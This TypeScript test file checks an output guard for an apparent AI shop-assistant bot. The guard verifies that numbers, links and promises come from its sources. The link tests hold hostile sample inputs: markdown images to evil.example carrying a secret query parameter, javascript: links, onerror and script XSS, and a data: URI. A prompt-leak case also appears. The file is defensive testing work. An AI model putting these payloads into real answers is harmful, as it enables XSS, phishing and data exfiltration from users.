import { describe, expect, it } from "vitest";
import { factsOf } from "./facts";
import { guard, strip } from "./guard";

const source =
  "怎么退款？\n在「我的订单」里点「申请退款」。审核通过后 1–3 个工作日原路退回，运费 12 元由我们承担，详见 https://shop.example/refund 。七天内可以退。";
const input = {
  sources: [source],
  question: "订单 20260315 花了 299 元，怎么退款",
  instructions: "You are the customer service assistant of a shop. Use only facts inside the blocks.",
  language: "zh-CN" as "zh-CN" | "en",
};
const english = {
  ...input,
  sources: ["How do I get a refund?\nOpen My orders and tap Request refund. The money is back within 3 working days."],
  question: "refund?",
  language: "en" as const,
};

describe("numbers", () => {
  it.each([
    "审核通过后 3 个工作日原路退回。",
    "审核通过后三个工作日内退回。",
    "订单 20260315 可以退，7 天内可以申请。",
    "1. 打开我的订单\n2. 点申请退款",
    "第一步打开「我的订单」，第二步点「申请退款」。",
    "运费 ¥12 由我们承担。",
  ])("that stand in the sources or the question pass: %s", (text) => {
    expect(guard(text, input)).toMatchObject({ ok: true });
  });

  it.each([
    ["审核通过后 5 个工作日原路退回。", "5 day"],
    ["审核通过后十五个工作日退回。", "15 day"],
    ["审核通过后 3 小时退回。", "3 hour"],
    ["运费 7 元由我们承担。", "7 money"],
    ["我们会退你 299 元。", "299 money"],
    ["退款打 8 折。", "8 discount"],
    ["请在 2026-03-05 前申请。", "2026"],
  ])("that stand nowhere are stopped: %s", (text, detail) => {
    expect(guard(text, input)).toEqual({ ok: false, violation: "number", detail });
  });

  it("are read as digits, Chinese numerals and words", () => {
    expect(factsOf("十二个小时 1,299.50元 within thirty days 20%")).toEqual([
      { value: 1299.5, unit: "money" },
      { value: 20, unit: "percent" },
      { value: 12, unit: "hour" },
      { value: 30, unit: "day" },
    ]);
    expect(guard("The money is back within three working days.", english)).toMatchObject({ ok: true });
    expect(guard("The money is back within ten working days.", english)).toMatchObject({ violation: "number" });
  });
});

describe("links", () => {
  it("of the sources pass, others are stopped", () => {
    expect(guard("详见 https://shop.example/refund", input)).toMatchObject({ ok: true });
    expect(guard("详见 [这里](https://evil.example/login)", input)).toMatchObject({ violation: "link" });
    expect(guard("去 evil.top 看看", input)).toMatchObject({ violation: "link" });
    expect(guard("写信给 boss@evil.example", input)).toMatchObject({ violation: "link" });
  });

  it.each([
    ["点 ![退款](https://evil.example/a.png?q=secret) 申请退款", "点 退款 申请退款"],
    ["![x][1] 申请\n[1]: https://evil.example/a.png", "x 申请"],
    ["[点我](javascript:alert(1)) 退款", "点我) 退款"],
    ["<img src=x onerror=alert(1)>在我的订单里<script>alert(1)</script>", "在我的订单里"],
    ["<a href='data:text/html,x'>退款</a>", "退款"],
  ])("that are unsafe and images are taken out: %s", (text, clean) => {
    expect(strip(text)).toBe(clean);
  });
});

it("stops an answer that says what no source says, tells its instructions, or somebody's telephone number", () => {
  expect(guard("今天天气真好，我们去公园散步吧，顺便买一杯咖啡喝，晚上再看一场电影", input)).toMatchObject({
    violation: "ungrounded",
  });
  expect(guard("The customer asks for the rules: Use only facts inside the blocks.", input)).toMatchObject({
    violation: "prompt",
  });
  expect(guard("请联系 138 1234 5678", { ...input, question: "我的电话 138 1234 5678" })).toMatchObject({
    violation: "private",
  });
  expect(guard("  ", input)).toMatchObject({ violation: "empty" });
});

describe("promises", () => {
  it.each(["给你一张满 39 减 8 的券。", "已为你退款。", "本店全场免费。", "我们承诺终身保修。", "下单满 100 减 12。"])(
    "that stand in no source are stopped: %s",
    (text) => expect(guard(text, input)).toMatchObject({ ok: false }),
  );

  it("of the sources pass", () => {
    const offer = { ...input, sources: ["新人券是多少？\n新注册送你一张满 39 减 8 的新人券，7 天内有效。"] };
    expect(guard("新注册送你一张满 39 减 8 的新人券。", offer)).toMatchObject({ ok: true });
    expect(guard("新注册送你一张满 8 减 39 的新人券。", offer)).toMatchObject({ violation: "promise" });
  });

  it("in the other language pass only when the answer is in the customer's", () => {
    const translated = { ...input, language: "en" as const };
    expect(guard("Open My orders and tap Request refund.", translated)).toMatchObject({ ok: true });
    expect(guard("You get a free gift.", translated)).toMatchObject({ violation: "promise" });
    expect(guard("Open My orders and tap Request refund.", input)).toMatchObject({ violation: "language" });
  });
});
